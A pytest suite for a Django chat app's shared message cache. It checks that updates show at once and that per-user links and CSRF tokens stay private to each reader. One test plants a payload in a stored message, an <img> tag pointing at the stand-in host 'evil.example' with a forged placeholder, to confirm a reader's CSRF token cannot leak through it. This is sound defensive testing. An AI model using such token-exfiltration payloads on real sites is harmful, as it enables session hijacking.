"""A room's newest messages are cached as HTML shared between readers (pages.py, core/shared.py):
every change shows on the next view, and what belongs to one reader never reaches another."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.db import connection
from django.test import Client, override_settings
from django_scopes import scope

from tsunagu.accounts.models import User
from tsunagu.core import shared
from tsunagu.talk import actions
from tsunagu.talk.models import MANAGED_KINDS, Message, RoomKind, RoomMember
from tsunagu.talk.tests.helpers import default_room, fill_room, make_room, post
from tsunagu.testing.world import World

pytestmark = [pytest.mark.django_db, pytest.mark.each_database]


def page(client: Any, world: World, room: Any) -> str:
    response = client.get(f"/n/{world.net_a.slug}/talk/r/{room.pk}/")
    assert response.status_code == 200
    return response.content.decode()


def message_html(html: str, message: Message) -> str:
    found = re.search(rf'<li class="talk-msg[^"]*" id="m{message.seq}".*?</li>', html, re.S)
    assert found, f"message {message.seq} is not on the page"
    return found.group(0)


def test_a_new_message_shows_on_the_next_view(world: World) -> None:
    room = default_room(world.net_a)
    post(world.alumni_a, room, "最初のメッセージ")
    reader = world.client(world.employee_a)
    assert "最初のメッセージ" in page(reader, world, room)
    post(world.supporter_a, room, "二通目のメッセージ")
    html = page(reader, world, room)
    assert "二通目のメッセージ" in html
    assert 'data-last-seq="2"' in html


def test_an_edit_a_deletion_and_a_reply_show_at_once(world: World) -> None:
    room = default_room(world.net_a)
    message = post(world.alumni_a, room, "誤字がありまsた")
    second = post(world.alumni_a, room, "あとで消します")
    reader = world.client(world.employee_a)
    page(reader, world, room)
    with scope(network=world.net_a):
        actions.do_edit_message(world.alumni_a, message, "誤字を直しました")
    html = page(reader, world, room)
    assert "誤字を直しました" in html and "（編集済み）" in html
    with scope(network=world.net_a):
        actions.do_delete_message(world.alumni_a, second)
    html = page(reader, world, room)
    assert "あとで消します" not in html and "このメッセージは削除されました" in html
    post(world.supporter_a, room, "スレッドで返信", thread_root=message)
    assert "1件の返信" in message_html(page(reader, world, room), message)


def test_a_stamp_shows_at_once_and_is_pressed_only_for_its_sender(world: World) -> None:
    room = default_room(world.net_a)
    message = post(world.alumni_a, room, "新しい職場に慣れてきました")
    alumni = world.client(world.alumni_a)
    assert "stamp__count" not in message_html(page(alumni, world, room), message)
    with scope(network=world.net_a):
        message.room = room
        actions.do_toggle_reaction(world.supporter_a, message, "like")
    mine = message_html(page(world.client(world.supporter_a), world, room), message)
    theirs = message_html(page(alumni, world, room), message)
    assert 'stamp stamp--mine" name="stamp" value="like"' in mine
    assert 'aria-pressed="true">👍 <span class="stamp__count">1<' in mine
    assert 'class="stamp" name="stamp" value="like"' in theirs
    assert 'aria-pressed="false">👍 <span class="stamp__count">1<' in theirs
    with scope(network=world.net_a):
        actions.do_toggle_reaction(world.supporter_a, message, "like")
    assert "stamp__count" not in message_html(page(alumni, world, room), message)


def test_hiding_and_pinning_show_at_once_to_members_and_operators(world: World) -> None:
    room = default_room(world.net_a)
    message = post(world.alumni_a, room, "総会は11月20日です")
    member, operator = world.client(world.employee_a), world.client(world.operator_a)
    page(member, world, room)
    page(operator, world, room)
    with scope(network=world.net_a):
        message.room = room
        actions.do_set_pinned(world.operator_a, message, True)
    html = page(member, world, room)
    assert "talk-pinned" in html and "📌" in message_html(html, message)
    with scope(network=world.net_a):
        actions.do_set_hidden(world.operator_a, message, True)
    html = message_html(page(member, world, room), message)
    assert "総会は11月20日です" not in html and "運営事務局が非表示に" in html
    html = message_html(page(operator, world, room), message)
    assert "総会は11月20日です" in html and 'value="unhide"' in html


def test_only_the_sender_gets_edit_and_delete_links_and_each_reader_their_token(
    world: World,
) -> None:
    room = default_room(world.net_a)
    message = post(world.alumni_a, room, "自分のメッセージ")
    author = Client(enforce_csrf_checks=True)
    author.force_login(world.alumni_a.user)
    other = Client(enforce_csrf_checks=True)
    other.force_login(world.employee_a.user)
    theirs = page(other, world, room)  # builds the shared page
    mine = page(author, world, room)  # from the cache
    edit_link = f"/m/{message.pk}/edit/"
    assert edit_link in message_html(mine, message)
    assert "talk-msg--mine" in message_html(mine, message)
    assert edit_link not in message_html(theirs, message)
    assert "talk-msg--mine" not in message_html(theirs, message)
    # The delete form carries the author's own token: it works for them.
    token = re.search(
        rf'action="[^"]*/m/{message.pk}/delete/"><input type="hidden" '
        r'name="csrfmiddlewaretoken" value="([^"]+)"',
        mine,
    )
    assert token is not None
    response = author.post(
        f"/n/{world.net_a.slug}/talk/r/{room.pk}/m/{message.pk}/delete/",
        {"csrfmiddlewaretoken": token.group(1)},
    )
    assert response.status_code == 302
    assert "このメッセージは削除されました" in page(other, world, room)


def test_a_cached_page_is_no_way_into_a_room(world: World) -> None:
    group = make_room(world.operator_a, name="運営チーム", kind=RoomKind.CLOSED)
    post(world.operator_a, group, "内部の相談です")
    assert "内部の相談です" in page(world.client(world.operator_a), world, group)
    path = f"/n/{world.net_a.slug}/talk/r/{group.pk}/"
    assert world.client(world.alumni_a).get(path).status_code == 404
    assert world.client(world.alumni_b).get(path).status_code == 302  # to the network's page
    other_network = f"/n/{world.net_b.slug}/talk/r/{group.pk}/"
    assert world.client(world.alumni_b).get(other_network).status_code == 404


def test_the_room_list_statement_keeps_the_rules_of_filter_rooms_for(world: World) -> None:
    from tsunagu.talk.access import filter_rooms_for, list_rooms_for
    from tsunagu.talk.actions import do_archive_room, do_open_direct, do_open_office

    for kind in (RoomKind.OPEN, RoomKind.CLOSED, RoomKind.ANNOUNCEMENT):
        make_room(world.operator_a, name=f"{kind}の部屋", kind=kind)
    make_room(world.operator_a, name="OB・OG限定", kind=RoomKind.ALUMNI)
    make_room(world.operator_a, name="社員限定", kind=RoomKind.EMPLOYEE)
    archived = make_room(world.operator_a, name="過去の部屋")
    make_room(world.operator_b, name="他のネットワーク")
    with scope(network=world.net_a):
        do_archive_room(world.operator_a, archived, True)
        do_open_direct(world.alumni_a, world.employee_a)
        do_open_office(world.supporter_a)
    members = [world.operator_a, world.alumni_a, world.employee_a, world.supporter_a]
    seen = []
    for member in members:
        with scope(network=member.network):
            mine, joinable = list_rooms_for(member)
            places = RoomMember.objects.filter(member=member, room__is_archived=False)
            joined = set(places.values_list("room_id", flat=True))
            may_join = set(
                filter_rooms_for(member)
                .filter(is_archived=False, kind__in=MANAGED_KINDS)
                .exclude(pk__in=joined)
                .values_list("pk", flat=True)
            )
        assert {r.room.pk for r in mine} == joined
        assert {r.pk for r in joinable} == may_join
        seen.append({r.name for r in joinable})
    _operator, alumni, employee, _supporter = seen  # the operator made and is in every room
    assert "openの部屋" in alumni and "closedの部屋" not in alumni
    assert "OB・OG限定" in alumni and "OB・OG限定" not in employee
    assert "社員限定" in employee and "社員限定" not in alumni
    assert all("過去の部屋" not in names and "他のネットワーク" not in names for names in seen)


def test_older_pages_show_the_pinned_messages_and_their_fragments_do_not(world: World) -> None:
    room = default_room(world.net_a)
    pinned = post(world.operator_a, room, "総会のお知らせ")
    fill_room(room, [world.alumni_a, world.employee_a], 60)
    with scope(network=world.net_a):
        pinned.room = room
        actions.do_set_pinned(world.operator_a, pinned, True)
    client = world.client(world.alumni_a)
    path = f"/n/{world.net_a.slug}/talk/r/{room.pk}/?before=30"
    older = client.get(path).content.decode()
    assert "talk-pinned" in older
    # What is sent from an older page shows there until it is stored: the script has its sample.
    assert "<template data-talk-message>" in older
    fragment = client.get(path, HTTP_HX_REQUEST="true").content.decode()
    assert "talk-pinned" not in fragment and "おはようございます 29" in fragment
    assert "data-talk-message" not in fragment


def test_text_with_a_nul_stored_by_another_path_cannot_fill_a_readers_hole(world: World) -> None:
    if connection.vendor == "postgresql":
        pytest.skip("PostgreSQL cannot store a NUL: the case is a database that can (SQLite)")
    room = default_room(world.net_a)
    message = post(world.alumni_a, room, "写真です")
    evil = "https://evil.example/?t="
    with override_settings(SECRET_KEY="a guess at the site's key"):
        forged = str(shared.hole("csrf"))  # what a member could try to pass for a hole
    with scope(network=world.net_a):
        Message.objects.filter(pk=message.pk).update(body_html=f'<img src="{evil}{forged}">')
    User.objects.filter(pk=world.alumni_a.user_id).update(name=f"花子{forged}")

    html = page(world.client(world.employee_a), world, room)

    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
    shown = message_html(html, message)
    assert token not in shown.split("csrfmiddlewaretoken", 1)[0]  # not in the name or the body
    assert f"{evil}{token}" not in shown
    seen = forged.replace("\x00", "\ufffd")
    assert f'src="{evil}{seen}"' in shown and f"花子{seen}" in shown
    assert "\x00" not in shown
